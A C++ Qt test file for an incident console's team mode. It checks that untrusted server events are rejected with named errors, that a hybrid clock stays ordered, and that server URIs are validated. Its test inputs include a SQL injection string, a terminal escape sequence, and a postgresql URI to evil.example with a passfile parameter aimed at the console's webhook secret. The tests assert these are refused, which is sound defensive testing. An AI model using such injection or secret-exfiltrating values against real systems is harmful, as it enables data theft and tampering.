// The event format of team mode: what goes to the server comes back identical, and an event
// from the server is untrusted input, refused with a message that names the problem; the
// clock orders events sensibly; the replicated columns are exactly the tables' columns.

#include "TeamTestSupport.h"
#include "core/ConsoleSecrets.h"
#include "team/Hlc.h"
#include "team/PgConnection.h"
#include "team/TeamEvent.h"

#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTemporaryDir>

using namespace ic;
using namespace ic::team;
using ic::test::TeamConsole;

namespace {

QByteArray validEvent(TeamConsole &console)
{
    console.declare();
    return sql::scalar(console.connection(),
                       QStringLiteral("SELECT payload FROM team_events ORDER BY seq LIMIT 1"))
        .toString()
        .toUtf8();
}

QByteArray edited(const QByteArray &payload, const std::function<void(QJsonObject &)> &edit)
{
    QJsonObject object = QJsonDocument::fromJson(payload).object();
    edit(object);
    return QJsonDocument(object).toJson(QJsonDocument::Compact);
}

void editFirstRow(QJsonObject &event, const std::function<void(QJsonObject &)> &edit)
{
    QJsonArray rows = event.value(QStringLiteral("rows")).toArray();
    QJsonObject row = rows.first().toObject();
    edit(row);
    rows.replace(0, row);
    event.insert(QStringLiteral("rows"), rows);
}

} // namespace

class TestTeamEvents : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void anEventSurvivesTheRoundTrip()
    {
        TeamConsole ana(QStringLiteral("Ana"));
        const QByteArray payload = validEvent(ana);
        const Result<TeamEvent> event = decodeEvent(payload);
        QVERIFY2(event, qPrintable(event.error()));
        QCOMPARE(event->actor, QStringLiteral("Ana"));
        QCOMPARE(event->kind, QStringLiteral("declared"));
        QVERIFY(event->rows.size() > 10);
        QCOMPARE(encodeEvent(*event), payload);
    }

    void badEventsAreRefusedByName_data()
    {
        QTest::addColumn<QString>("change");
        QTest::addColumn<QString>("message");
        QTest::newRow("not json") << "garbage"
                                  << "not a JSON object";
        QTest::newRow("version") << "version"
                                 << "format version";
        QTest::newRow("id") << "id"
                            << "not a UUID";
        QTest::newRow("clock of another console") << "hlc"
                                                  << "bad clock";
        QTest::newRow("kind") << "kind"
                              << "bad actor or kind";
        QTest::newRow("no rows") << "no rows"
                                 << "0 rows";
        QTest::newRow("table") << "table"
                               << "table 'sqlite_master' is not replicated";
        QTest::newRow("column") << "column"
                                << "column 'rowid' of incidents is not replicated";
        QTest::newRow("value type") << "value"
                                    << "holds neither text, an integer nor null";
        QTest::newRow("another incident") << "owner"
                                          << "belongs to another incident";
        QTest::newRow("incomplete insert") << "incomplete"
                                           << "lacks column";
        QTest::newRow("too large") << "large"
                                   << "more than the";
    }

    void badEventsAreRefusedByName()
    {
        QFETCH(QString, change);
        QFETCH(QString, message);
        TeamConsole ana(QStringLiteral("Ana"));
        const QByteArray payload = validEvent(ana);
        const QString other = QStringLiteral("1b4e28ba-2fa1-11d2-883f-0016d3cca427");
        QByteArray bad;
        if (change == QLatin1String("garbage"))
            bad = "{\"v\": 1, \"id\": ";
        else if (change == QLatin1String("large"))
            bad = QByteArray(maxEventBytes + 1, ' ');
        else
            bad = edited(payload, [&](QJsonObject &event) {
                if (change == QLatin1String("version"))
                    event.insert(QStringLiteral("v"), 99);
                else if (change == QLatin1String("id"))
                    event.insert(QStringLiteral("id"), QStringLiteral("'; DROP TABLE x; --"));
                else if (change == QLatin1String("hlc"))
                    event.insert(QStringLiteral("hlc"), Hlc{1, 0, other}.toString());
                else if (change == QLatin1String("kind"))
                    event.insert(QStringLiteral("kind"), QStringLiteral("\x1b]0;pwned\x07"));
                else if (change == QLatin1String("owner"))
                    event.insert(QStringLiteral("incident"), other);
                else if (change == QLatin1String("no rows"))
                    event.insert(QStringLiteral("rows"), QJsonArray());
                else
                    editFirstRow(event, [&](QJsonObject &row) {
                        QJsonObject values = row.value(QStringLiteral("set")).toObject();
                        if (change == QLatin1String("table"))
                            row.insert(QStringLiteral("t"), QStringLiteral("sqlite_master"));
                        else if (change == QLatin1String("column"))
                            values.insert(QStringLiteral("rowid"), 1);
                        else if (change == QLatin1String("value"))
                            values.insert(QStringLiteral("title"), QJsonObject());
                        else if (change == QLatin1String("incomplete"))
                            values.remove(QStringLiteral("severity"));
                        row.insert(QStringLiteral("set"), values);
                    });
            });
        const Result<TeamEvent> decoded = decodeEvent(bad);
        QVERIFY(!decoded);
        QVERIFY2(decoded.error().contains(message), qPrintable(decoded.error()));
    }

    void theClockIsMonotonicAndOrdersAsText()
    {
        const QString console = QStringLiteral("0e9b3c6a-7d4e-4f51-9a1b-2c3d4e5f6a7b");
        Hlc last;
        QList<Hlc> stamps;
        // The wall clock goes backwards half-way: the stamps keep growing.
        for (const qint64 now : {1000, 1000, 1001, 900, 900, 2000}) {
            last = nextHlc(last, now, console);
            stamps.append(last);
        }
        for (int i = 1; i < stamps.size(); ++i) {
            QVERIFY(stamps[i - 1] < stamps[i]);
            QVERIFY(stamps[i - 1].toString() < stamps[i].toString());
            QCOMPARE(Hlc::parse(stamps[i].toString()), std::optional<Hlc>(stamps[i]));
        }
        // Seeing a stamp from a console ten minutes ahead: the next one is later still.
        const Hlc remote{600000 + 2000, 4, QStringLiteral("ffffffff-7d4e-4f51-9a1b-2c3d4e5f6a7b")};
        const Hlc next = nextHlc(observedHlc(last, remote), 2001, console);
        QVERIFY(remote < next);
        QVERIFY(!Hlc::parse(QStringLiteral("12-3-x")));
        QVERIFY(!Hlc::parse(QStringLiteral("000000000000100a-000001-c")));
    }

    void theReplicatedColumnsAreTheSchemasColumns()
    {
        // A migration that adds a column to a replicated table must add it to the team's list
        // (and to its write statement), or the column would silently never replicate.
        TeamConsole ana(QStringLiteral("Ana"));
        for (const ReplicatedTable &table : replicatedTables()) {
            QStringList columns;
            auto query =
                sql::exec(ana.connection(), QStringLiteral("SELECT name FROM pragma_table_info(?)"),
                          {table.name});
            while (query && query->next())
                columns.append(query->value(0).toString());
            QCOMPARE(table.columns + table.localColumns, columns);
        }
    }

    // libpq would read the "password" from the file and send it to the host the URI names.
    void aServerUriMayNotReadTheConsolesSecrets()
    {
        QTemporaryDir dir;
        QVERIFY(dir.isValid());
        const QString webhook = dir.filePath(webhookSecretFileName);
        QFile secret(webhook);
        QVERIFY(secret.open(QIODevice::WriteOnly));
        secret.write("https://hooks.slack.com/services/T0/B0/x\n");
        secret.close();
        const QString link = dir.filePath(QStringLiteral("pgpass"));
        QVERIFY(QFile::link(webhook, link));
        for (const QString &file : {webhook, link, dir.filePath(QStringLiteral("console.db"))}) {
            const ServerAddress address = parseServerAddress(
                QStringLiteral("postgresql://ic@evil.example/team?passfile=%1").arg(file));
            QVERIFY2(address.problem.startsWith(QStringLiteral("passfile: ")),
                     qPrintable(file + QStringLiteral(" -> ") + address.problem));
        }
        const ServerAddress ownPassfile =
            parseServerAddress(QStringLiteral("postgresql://ic@db/team?passfile=%1")
                                   .arg(dir.filePath(QStringLiteral("my.pgpass"))));
        QVERIFY2(ownPassfile.problem.isEmpty(), qPrintable(ownPassfile.problem));
    }

    void aServerUriIsCheckedBeforeItIsStored()
    {
        const ServerAddress good = parseServerAddress(
            QStringLiteral("postgresql://ic@db1:5433,db2/team?sslmode=verify-full"));
        QVERIFY2(good.problem.isEmpty(), qPrintable(good.problem));
        QCOMPARE(good.display, QStringLiteral("ic@db1,db2:5433,/team"));
        const ServerAddress withPassword =
            parseServerAddress(QStringLiteral("postgresql://ic:hunter2@db/team"));
        QVERIFY(withPassword.problem.contains(QStringLiteral("password")));
        QVERIFY(!withPassword.problem.contains(QStringLiteral("hunter2")));
        QVERIFY(parseServerAddress(QStringLiteral("postgresql://ic@db/team?sslpassword=x"))
                    .problem.contains(QStringLiteral("sslpassword")));
        QVERIFY(!parseServerAddress(QStringLiteral("https://db/team")).problem.isEmpty());
        QVERIFY(!parseServerAddress(QStringLiteral("postgresql://db/team?nonsense=1"))
                     .problem.isEmpty());
    }
};

QTEST_GUILESS_MAIN(TestTeamEvents)
#include "test_team_events.moc"
